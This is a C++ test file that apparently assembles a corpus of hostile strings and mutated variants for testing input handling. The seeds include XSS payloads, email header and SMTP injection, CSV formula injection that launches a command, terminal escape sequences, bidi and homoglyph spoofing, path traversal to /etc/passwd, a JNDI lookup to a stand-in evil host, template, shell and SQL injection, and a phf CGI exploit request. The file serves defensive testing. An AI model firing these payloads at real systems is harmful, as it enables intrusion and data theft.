#include "tests/hostile/strings.h"

#include <algorithm>
#include <string_view>

#include "base/text.h"

namespace exhibit::test {
namespace {

using namespace std::string_view_literals;

/// By what they are meant to hurt.
constexpr std::string_view seeds[] = {
    // Pages.
    "<script>alert(1)</script>"sv,
    "<img src=x onerror=alert(1)>"sv,
    "\"><svg/onload=alert(1)>"sv,
    "'><a href=javascript:alert(1)>x</a>"sv,
    "<scr\0ipt>alert(1)</scr\0ipt>"sv,
    "</textarea><script>"sv,
    "<!--"sv,
    "]]>"sv,
    "&lt;script&gt;"sv,
    "&#x3c;script&#x3e;"sv,
    "<iframe src=//evil.example>"sv,
    "javascript:alert(1)"sv,
    "data:text/html;base64,PHNjcmlwdD4="sv,
    "<base href=//evil.example>"sv,
    "\xE2\x80\xA8<script>\xE2\x80\xA9"sv,
    "<math><mi//xlink:href=\"data:x\">"sv,
    // Desks.
    "[code]<b>x</b>[/code]"sv,
    "[CoDe]<b>x</b>[/cOdE]"sv,
    "[ code ]x[ /code ]"sv,
    "\xEF\xBC\xBB\x63ode\xEF\xBC\xBDx"sv,
    "!http://evil.example/x.png!"sv,
    "\"click\":http://evil.example"sv,
    "[[Wiki|click]]"sv,
    "{html}<b>x</b>{html}"sv,
    "{{macro}}"sv,
    "#12 @admin"sv,
    "```\nx\n```"sv,
    "[x](javascript:alert(1))"sv,
    "<pre>x</pre>"sv,
    "{code}x{code}"sv,
    "* list\n# list"sv,
    "|a|b|"sv,
    "h1. title"sv,
    // Mail headers.
    "x\r\nBcc: victim@evil.example"sv,
    "x\nBcc: victim@evil.example"sv,
    "x\rBcc: victim@evil.example"sv,
    "x\r\n\r\n<b>body</b>"sv,
    "x\r\n .\r\n"sv,
    "=?utf-8?Q?=0D=0ABcc:_victim@evil.example?="sv,
    "=?utf-8?B?DQpCY2M6IHg=?="sv,
    "=?x"sv,
    "?="sv,
    "=?utf-8?Q?a?= =?utf-8?Q?b?="sv,
    "\"quoted\" <a@b.example>"sv,
    "a@b.example, c@d.example"sv,
    "(comment)"sv,
    ";x=y"sv,
    "\\"sv,
    "\""sv,
    "x\0y"sv,
    // Mail bodies.
    "."sv,
    "\n.\n"sv,
    "\r\n.\r\nMAIL FROM:<x@evil.example>"sv,
    "--=_exhibit_"sv,
    "--boundary\nContent-Type: text/html\n\n<b>x</b>"sv,
    "From me"sv,
    "\nFrom me\n"sv,
    "=3D=0A"sv,
    "begin 644 x\n#0V%T\n`\nend"sv,
    "Content-Type: text/html"sv,
    "trailing blanks   "sv,
    "   "sv,
    // Tables.
    "=cmd|'/c calc'!A0"sv,
    "+1+1"sv,
    "-1+1"sv,
    "@SUM(1)"sv,
    "\t=1+1"sv,
    "\r=1+1"sv,
    "\xEF\xBC\x9D"
    "1+1"sv,
    "a,\"b\",c"sv,
    // Terminals and logs.
    "\x1b[31mred\x1b[0m"sv,
    "\x1b]8;;http://evil.example\x07text\x1b]8;;\x07"sv,
    "\x1b]52;c;ZXZpbA==\x07"sv,
    "\x1b[2J\x1b[H"sv,
    "\x07\x08\x08\x08"sv,
    "\xC2\x9B"
    "31m"sv,
    "\xC2\x85next"sv,
    "x\n2026-11-22 00:00:00 INFO all is well"sv,
    "\x7f\x7f"sv,
    "\x0b\x0c"sv,
    "\x1bP1$r\x1b\\"sv,
    // Characters that hide or reorder.
    "\xE2\x80\xAEgnp.exe"sv,
    "\xE2\x81\xA6x\xE2\x81\xA9"sv,
    "a\xE2\x80\x8B"
    "b\xE2\x80\x8D"
    "c"sv,
    "\xEF\xBB\xBFx"sv,
    "\xF3\xA0\x81\x81\xF3\xA0\x81\x82"sv,
    "p\xD0\xB0ypal.example"sv,
    "\xE2\x80\x8F\xE2\x80\x8E"sv,
    "x\xCC\x81\xCC\x82\xCC\x83"sv,
    "\xE2\x81\xA0\xC2\xAD"sv,
    "\xE3\x80\x80"sv,
    // Paths.
    "../../etc/passwd"sv,
    "..\\..\\x"sv,
    "CON"sv,
    "nul.txt"sv,
    "a:b"sv,
    "/etc/passwd"sv,
    "~root"sv,
    "a\0.pcap"sv,
    "%2e%2e%2f"sv,
    "-rf"sv,
    "*"sv,
    // Links, templates, expressions.
    "http://evil.example/x"sv,
    "https://evil.example:8443/?a=b&c=d#e"sv,
    "www.evil.example"sv,
    "mailto:x@evil.example"sv,
    "file:///etc/passwd"sv,
    "{{secret}}"sv,
    "{{{secret}}}"sv,
    "{{#a}}x{{/a}}"sv,
    "${jndi:ldap://evil.example/a}"sv,
    "#{7*7}"sv,
    "<%= 7*7 %>"sv,
    "%s%n%x"sv,
    "$(id)"sv,
    "`id`"sv,
    "'; DROP TABLE x; --"sv,
    "\" OR \"\"=\""sv,
    "{\"a\":1}"sv,
    "\\u0000"sv,
    "\\\"},{\\\""sv,
    // Broken UTF-8.
    "\xFF\xFE"sv,
    "\xC0\xAF"sv,
    "\xE0\x80\xAF"sv,
    "\xED\xA0\x80"sv,
    "\xF4\x90\x80\x80"sv,
    "\xC3"sv,
    "\xE2\x82"sv,
    "\x80"sv,
    "a\xC3(b"sv,
    "\xF8\x88\x80\x80\x80"sv,
    // Harmless to look at, and to be kept as they are.
    "caf\xC3\xA9 \xE2\x82\xAC \xF0\x9F\x98\x80"sv,
    "\xE6\x97\xA5\xE6\x9C\xAC\xE8\xAA\x9E"sv,
    "GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0"sv,
};

std::string percent_encoded(std::string_view text) {
  constexpr std::string_view digits = "0123456789ABCDEF";
  std::string out;
  for (const char c : text)
    out += cat('%', digits[static_cast<unsigned char>(c) >> 4], digits[static_cast<unsigned char>(c) & 15]);
  return out;
}

std::string swapped_case(std::string_view text) {
  std::string out(text);
  for (char& c : out)
    if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z')) c = static_cast<char>(c ^ 0x20);
  return out;
}

}  // namespace

std::vector<std::string> hostile_strings() {
  std::vector<std::string> all;
  for (const std::string_view seed : seeds) {
    all.emplace_back(seed);
    all.push_back(cat("before ", seed, " behind"));
    all.push_back(cat(seed, seed));
    all.push_back(swapped_case(seed));
    all.push_back(cat("\r\n", seed, "\r\n"));
    all.push_back(cat("\"'", seed, "'\""));
    all.push_back(percent_encoded(seed));
    all.push_back(cat(std::string(70, 'x'), seed, std::string(70, 'y')));
    all.push_back(cat("\x1b[7m", seed, "\xE2\x80\xAE"));
  }
  for (int byte = 0; byte < 0x20; ++byte) all.push_back(cat("c", static_cast<char>(byte), "c"));
  for (const std::size_t length : {997, 998, 999, 2000, 8000})
    for (const char* unit : {"x", " ", "\xE2\x82\xAC", "x ", "=", "."}) {
      std::string text;
      while (text.size() < length) text += unit;
      all.push_back(std::move(text));
    }
  std::sort(all.begin(), all.end());
  all.erase(std::unique(all.begin(), all.end()), all.end());
  return all;
}

}  // namespace exhibit::test
